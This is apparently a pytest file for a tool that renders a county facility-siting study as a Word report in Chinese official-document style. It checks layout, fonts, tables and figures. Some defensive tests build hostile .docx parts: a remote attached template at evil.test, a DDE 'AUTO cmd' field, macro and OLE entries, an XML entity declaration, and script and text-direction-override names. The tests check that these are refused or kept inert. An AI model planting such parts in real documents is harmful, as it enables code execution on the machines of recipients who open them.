"""The Word document: verdict first, the look of an official document, tables that stay tables, true numbers."""

from __future__ import annotations

import dataclasses
import io
import re
import runpy
import zipfile
from pathlib import Path
from typing import Any

import pytest
from docx import Document
from docx.oxml.ns import qn
from docx.shared import Mm, Pt

from siting.errors import InputRefused
from siting.reports import content
from siting.reports.formats import paper, word, word_style
from siting.reports.formats.columns import widths
from siting.reports.maps import fonts
from siting.reports.nouns import Column, Section, Table
from siting.reports.speech import Speech
from siting.studies.study import Study
from siting.words import LANGS, Lang, load

MAKE = runpy.run_path(str(Path(__file__).with_name("study_maker.py")))["make"]
PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c49444154789c63f8ffff3f0005fe02fe0def46b80000"
    "000049454e44ae426082"
)


@pytest.fixture(scope="module")
def study() -> Study:
    return MAKE(60)


@pytest.fixture(scope="module")
def hostile() -> Study:
    return MAKE(60, hostile=True)


@pytest.fixture(autouse=True)
def quick_maps(monkeypatch: pytest.MonkeyPatch) -> None:
    """A picture of one point stands for each map; the maps have a test of their own."""
    monkeypatch.setattr(word, "pictures", lambda study, say: [("map", PIXEL), ("clinic", PIXEL)])


def made(study: Study, out: Path, lang: Lang = "zh", template: Path | None = None) -> Path:
    (path,) = word.write(study, out, load(lang), template)
    return path


def texts(path: Path) -> list[str]:
    return [p.text for p in Document(str(path)).paragraphs]


def tables(path: Path) -> dict[tuple[str, ...], list[list[str]]]:
    """Rows of every table by its head."""
    found = {}
    for table in Document(str(path)).tables:
        rows = [[cell.text for cell in row.cells] for row in table.rows]
        found[tuple(rows[0])] = rows[1:]
    return found


def parts(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as archive:
        return {n: archive.read(n).decode("utf-8") for n in archive.namelist() if n.endswith((".xml", ".rels"))}


def test_the_verdict_stands_before_everything_but_the_title_and_the_warnings(study: Study, tmp_path: Path) -> None:
    told = content.of(study, "zh")
    found = texts(made(study, tmp_path))
    begin = [told.title, told.subtitle, *told.warnings, "一、结论"]
    assert found[: len(begin)] == begin
    assert found[len(begin)] == f"1. {told.verdict[0]}"
    assert "— 1 —" not in found


def test_the_page_is_that_of_an_official_document(study: Study, tmp_path: Path) -> None:
    document = Document(str(made(study, tmp_path)))
    section = document.sections[0]
    page = (section.page_width, section.page_height)
    margins = (section.top_margin, section.bottom_margin, section.left_margin, section.right_margin)
    assert [round(length.mm) for length in (*page, *margins) if length] == [210, 297, 37, 35, 28, 26]
    for style, font, size in (
        (word_style.PARAGRAPH, "仿宋_GB2312", 16),
        ("Title", "方正小标宋简体", 22),
        ("Heading 1", "黑体", 16),
        ("Heading 2", "楷体_GB2312", 16),
    ):
        found: Any = document.styles[style]
        assert found.element.rPr.rFonts.get(qn("w:eastAsia")) == font
        assert found.font.size == Pt(size)
    assert document.styles[word_style.PARAGRAPH].paragraph_format.first_line_indent == Pt(32)  # type: ignore[attr-defined]
    footers = parts(made(study, tmp_path))
    assert sum("PAGE" in text and "— " in text for name, text in footers.items() if "footer" in name) == 2
    fall_backs = footers["word/fontTable.xml"]
    assert 'w:name="仿宋_GB2312"' in fall_backs
    assert "FangSong" in fall_backs


def test_chapters_and_tables_are_numbered_as_in_official_documents(study: Study, tmp_path: Path) -> None:
    found = texts(made(study, tmp_path))
    assert any(text.startswith("二、") for text in found)
    assert any(text.startswith("（一）") for text in found)
    assert any(text.startswith("2. ") for text in texts(made(study, tmp_path, "en")))


def test_tables_survive_editing(study: Study, tmp_path: Path) -> None:
    document = Document(str(made(study, tmp_path)))
    assert document.tables
    for table in document.tables[1:]:  # the first one holds the large figures
        assert table.style is not None
        assert table.style.name == word_style.TABLE
        assert table.rows[0]._tr.trPr.find(qn("w:tblHeader")) is not None
        assert all(row._tr.trPr.find(qn("w:cantSplit")) is not None for row in table.rows)
        assert all(cell.paragraphs[0].style.name != "Normal" for cell in table.rows[-1].cells)  # type: ignore[union-attr]


@pytest.mark.parametrize("lang", LANGS)
def test_figures_are_those_of_the_measures(study: Study, tmp_path: Path, lang: Lang) -> None:
    say = Speech(load(lang, content.WORDS), study.county.file.money)
    found = tables(made(study, tmp_path, lang))
    m = study.measures
    money = next(
        rows for head, rows in found.items() if head[0] == say("col.service") and say("col.running_more") in head[-1]
    )
    for row, (key, figures) in zip(money, m.services.items(), strict=False):
        was = study.before.services[key].running
        assert row[0] == say.name(study.county.services[key])
        shown = [f"{n / 10_000:,.1f}" for n in (figures.capital, was, figures.running, figures.running - was)]
        assert row[1:] == shown
    people = next(rows for head, rows in found.items() if say("col.people_after") in head)
    head = next(head for head in found if say("col.people_after") in head)
    for row, figures in zip(people, m.services.values(), strict=True):
        assert row[head.index(say("col.demand"))] == f"{figures.demand:,}"
        assert row[head.index(say("col.people_after"))] == f"{int(figures.served * 1000 / figures.demand) / 10:.1f}%"


@pytest.mark.parametrize("lang", LANGS)
def test_lines_waste_and_phases_are_laid_out_too(tmp_path: Path, lang: Lang) -> None:
    whole = MAKE(60, whole=True, hostile=True)
    told = content.of(whole, lang)
    found = texts(made(whole, tmp_path, lang))
    assert all(any(text.endswith(section.title) for text in found) for section in told.sections)


def test_numbers_stand_to_the_right(study: Study, tmp_path: Path) -> None:
    document = Document(str(made(study, tmp_path)))
    for table in document.tables[1:]:
        for row in table.rows[1:]:
            for cell in row.cells:
                style = cell.paragraphs[0].style
                if re.fullmatch(r"[\d,.]+%?", cell.text) and style is not None and len(table.columns) > 5:
                    assert style.name in (word_style.NUMBER, word_style.CELL)
    right = document.styles[word_style.NUMBER].paragraph_format.alignment  # type: ignore[attr-defined]
    assert int(right) == 2


def test_the_same_study_gives_the_same_bytes(study: Study, tmp_path: Path) -> None:
    (tmp_path / "again").mkdir()
    assert made(study, tmp_path).read_bytes() == made(study, tmp_path / "again").read_bytes()


@pytest.mark.parametrize("lang", LANGS)
def test_no_name_becomes_markup_a_field_or_a_link(hostile: Study, tmp_path: Path, lang: Lang) -> None:
    path = made(hostile, tmp_path, lang)
    inside = parts(path)
    assert "<script>" not in inside["word/document.xml"]
    assert "\u202e" not in "".join(inside.values())
    fields = re.findall(r"<w:instrText[^>]*>([^<]*)<", "".join(inside.values()))
    assert {field.strip() for field in fields} == {"PAGE"}
    assert "External" not in "".join(text for name, text in inside.items() if name.endswith(".rels"))
    cells = [cell for rows in tables(path).values() for row in rows for cell in row]
    assert any("<script>alert(1)</script>" in cell for cell in cells)
    assert any(cell.startswith("\\u202eevil") for cell in cells)


def test_a_very_long_name_is_kept_whole(study: Study, tmp_path: Path) -> None:
    name = "很长的名字" * 400
    county = study.county
    opened = {f.opening.site for f in study.measures.sites if f.opening.action == "new"}
    sites = tuple(s.model_copy(update={"name": name, "name_en": ""}) if s.id in opened else s for s in county.sites)
    changed = dataclasses.replace(study, county=dataclasses.replace(county, sites=sites))
    assert "".join(parts(made(changed, tmp_path)).values()).count(name) >= len(opened)


def test_without_a_chinese_font_there_is_a_sentence_instead_of_boxes(
    study: Study, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.undo()
    monkeypatch.setattr(fonts, "chinese", lambda: None)
    found = texts(made(study, tmp_path))
    assert any("没有可用的中文字体" in text for text in found)
    assert not [name for name in zipfile.ZipFile(tmp_path / "report.docx").namelist() if "media" in name]


def letterhead(path: Path, *paragraphs: str) -> Path:
    document = Document()
    for text in paragraphs:
        document.add_paragraph(text)
    document.sections[0].top_margin = Mm(50)
    document.save(str(path))
    return path


def changed_zip(path: Path, **parts: bytes) -> Path:
    """The file with some of its parts replaced or added (``__`` stands for a slash, ``_`` in front for a dot)."""
    data = path.read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(path, "w") as new:
        names = {name.replace("__", "/").replace("DOT", "."): content for name, content in parts.items()}
        for name in old.namelist():
            if name not in names:
                new.writestr(name, old.read(name))
        for name, whole in names.items():
            new.writestr(name, whole)
    return path


def test_a_template_keeps_its_page_and_takes_the_report_where_it_says(study: Study, tmp_path: Path) -> None:
    template = letterhead(tmp_path / "bureau.docx", "云岭县人民政府办公室文件", "{{报告}}", "抄送：各乡镇")
    path = made(study, tmp_path, template=template)
    found = [text for text in texts(path) if text]
    assert found[0] == "云岭县人民政府办公室文件"
    assert found[1] == content.of(study, "zh").title
    assert found[-1] == "抄送：各乡镇"
    assert "{{报告}}" not in found
    margin = Document(str(path)).sections[0].top_margin
    assert margin
    assert round(margin.mm) == 50


def test_a_template_without_a_place_gets_the_report_at_its_end(study: Study, tmp_path: Path) -> None:
    template = letterhead(tmp_path / "bureau.docx", "云岭县人民政府办公室文件")
    assert texts(made(study, tmp_path, template=template))[0] == "云岭县人民政府办公室文件"


MACROS = b'<Types xmlns="x"><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
REMOTE = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://evil.test/x.dotm" TargetMode="External"/></Relationships>'
)
FIELD = b'<w:x xmlns:w="w"><w:instrText>DDE</w:instrText><w:instrText>AUTO cmd</w:instrText></w:x>'
BOMB = b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'


@pytest.mark.parametrize(
    ("changes", "code"),
    [
        ({"[Content_Types]DOTxml": MACROS}, "E305"),
        ({"word__vbaProjectDOTbin": b"x"}, "E305"),
        ({"word__embeddings__oleObject1DOTbin": b"x"}, "E305"),
        ({"word___rels__settingsDOTxmlDOTrels": REMOTE}, "E305"),
        ({"word__header9DOTxml": FIELD}, "E305"),
        ({"word__header9DOTxml": BOMB}, "E304"),
        ({"[Content_Types]DOTxml": b"<Types/>"}, "E304"),
        ({"word__documentDOTxml": b"<not closed"}, "E304"),
    ],
)
def test_a_template_that_runs_or_is_no_document_is_refused(
    study: Study, tmp_path: Path, changes: dict[str, bytes], code: str
) -> None:
    template = changed_zip(letterhead(tmp_path / "bureau.docx", "x"), **changes)
    with pytest.raises(InputRefused) as refused:
        made(study, tmp_path, template=template)
    assert [fault.code for fault in refused.value.faults] == [code]
    assert not (tmp_path / "report.docx").exists()


@pytest.mark.parametrize("data", [b"", b"PK\x03\x04 not a zip", b"\xd0\xcf\x11\xe0 an old .doc"])
def test_a_template_that_is_no_docx_is_refused(study: Study, tmp_path: Path, data: bytes) -> None:
    (tmp_path / "bureau.docx").write_bytes(data)
    with pytest.raises(InputRefused, match="E304"):
        made(study, tmp_path, template=tmp_path / "bureau.docx")
    with pytest.raises(InputRefused, match="E304"):
        made(study, tmp_path, template=tmp_path / "nowhere.docx")


def test_a_table_that_is_too_wide_is_split_by_what_tells_its_rows_apart(study: Study) -> None:
    say = Speech(load("zh", content.WORDS), study.county.file.money)
    columns = tuple(Column(f"c{n}", f"列{n}", "text" if n < 2 else "count") for n in range(14))
    same = tuple(("村卫生室", f"点{k}", *range(12)) for k in range(4))
    told = dataclasses.replace(
        content.of(study, "zh"), sections=(Section("x", "甲", (), (Table("t", "乙", columns, same),)),)
    )
    leaves = paper.of(told, say).chapters[0].leaves
    assert len(leaves) == 2
    for leaf in leaves:
        assert [row[:2] for row in leaf.table.rows] == [row[:2] for row in same]
        assert sum(widths(leaf.table, say, 156)) == pytest.approx(156)
    assert [c.key for leaf in leaves for c in leaf.table.columns[2:]] == [c.key for c in columns[2:]]


def test_a_long_wide_table_goes_to_the_annex_and_quiet_rows_stay_out(study: Study) -> None:
    say = Speech(load("zh", content.WORDS), study.county.file.money)
    columns = tuple(Column(f"c{n}", f"列{n}", "count") for n in range(12))
    rows = tuple((k, *range(11)) for k in range(60))
    table = Table("t", "乙", columns, rows, hidden=frozenset(range(20)))
    told = dataclasses.replace(content.of(study, "zh"), sections=(Section("x", "甲", (), (table,)),))
    sheets = paper.of(told, say)
    assert sheets.chapters[0].annexes == (1,)
    assert len(sheets.annex[0].table.rows) == 40
    assert "20" in sheets.annex[0].rest


def test_texts_that_few_rows_have_stand_in_a_table_of_their_own(study: Study) -> None:
    say = Speech(load("en", content.WORDS), study.county.file.money)
    keys = ("target", "a", "b", "c", "before", "after", "d", "e", "f")
    columns = (*(Column(k, k, "count" if k != "target" else "text") for k in keys), Column("why", "Why", "text"))
    rows = tuple((f"T{k}", *range(8), "there is no money for it" if k == 2 else None) for k in range(5))
    table = Table("t", "Targets", columns, rows, note="a note")
    told = dataclasses.replace(content.of(study, "en"), sections=(Section("x", "X", (), (table,)),))
    leaves = paper.of(told, say).chapters[0].leaves
    assert [[c.key for c in leaf.table.columns] for leaf in leaves] == [
        ["target", "a", "b", "c", "before", "after"], ["target", "d", "e", "f"], ["target", "why"],
    ]  # fmt: skip
    assert [len(leaf.table.rows) for leaf in leaves] == [5, 5, 1]
    assert [leaf.table.note for leaf in leaves] == ["", "", "a note"]


@pytest.mark.parametrize("lang", LANGS)
def test_paper_has_the_dearest_of_a_long_list_of_sites_and_names_the_workbook(study: Study, lang: Lang) -> None:
    say = Speech(load(lang, content.WORDS), study.county.file.money)
    columns = (
        Column("site", "S", "text"),
        Column("capital", "C", "money"),
        *(Column(f"c{n}", "c", "count") for n in range(9)),
    )
    rows = tuple((f"S{k}", k % 100, *range(9)) for k in range(300))
    table = Table("sites", "Sites", columns, rows, hidden=frozenset({0}))
    told = dataclasses.replace(content.of(study, lang), sections=(Section("x", "X", (), (table,)),))
    (leaf,) = paper.of(told, say).annex
    kept = [row[0] for row in leaf.table.rows]
    assert kept == [f"S{k}" for k in range(1, 300) if k % 100 >= 80]
    assert say("paper.dearest", shown=60, whole="299") in leaf.rest
    assert "xlsx" in leaf.rest


def test_the_line_that_ends_a_report_does_not_stand_alone_on_a_page(study: Study) -> None:
    say = Speech(load("en", content.WORDS), study.county.file.money)
    table = Table("t", "T", (Column("a", "A"),), (("one",), ("two",)))
    told = dataclasses.replace(content.of(study, "en"), sections=(Section("x", "X", (), (table,)),))
    data = word.document(told, say, (), "2026-01-01T00:00:00")
    last = Document(io.BytesIO(data)).tables[-1].rows[-1].cells[0].paragraphs[0]
    assert last.text == "two"
    assert last.paragraph_format.keep_with_next


def test_room_that_texts_do_not_need_keeps_heads_on_one_line(study: Study) -> None:
    say = Speech(load("en", content.WORDS), study.county.file.money)
    columns = Column("plot", "Plot"), Column("saved", "Capital saved (wan yuan)", "money"), Column("by", "By")
    table = Table("t", "T", columns, tuple((f"PL-T01-V{n:02}", n, "Mawan") for n in range(9)))
    plot, saved, _ = widths(table, say, 156)
    assert saved >= 1.4 * len("Capital saved (wan yuan)")
    assert plot >= 1.8 * len("PL-T01-V01")


@pytest.mark.parametrize(("n", "signs"), [(1, "一"), (10, "十"), (11, "十一"), (20, "二十"), (35, "三十五")])
def test_chapters_count_in_chinese(n: int, signs: str) -> None:
    assert paper.chinese(n) == signs
